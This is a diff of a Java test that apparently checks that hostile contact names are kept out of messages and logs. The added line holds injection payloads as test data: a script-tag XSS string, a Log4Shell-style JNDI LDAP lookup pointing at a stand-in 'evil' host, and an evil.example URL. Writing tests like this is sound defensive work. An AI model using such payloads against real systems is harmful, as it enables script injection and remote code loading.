@@ -22,7 +22,8 @@ class T19HostileTextTest {
     void t19_nothing_of_name_subject_or_reason_is_in_a_message_and_the_note_is_one_harmless_line(CapturedOutput log) {
         String number = CONNECTOR.newNumber();
         String mail = CONNECTOR.newMail();
-        CONNECTOR.account(HOSTILE.substring(0, 110), mail, number);
+        // the API takes no control or direction characters in a name; what it takes is bad enough
+        CONNECTOR.account("Zed<script>alert(1)</script> {0} ${jndi:ldap://evil} https://evil.example", mail, number);
         long contact = CONNECTOR.contact("Zed " + HOSTILE, mail, number);
         long ticket = CONNECTOR
                 .sandbox(
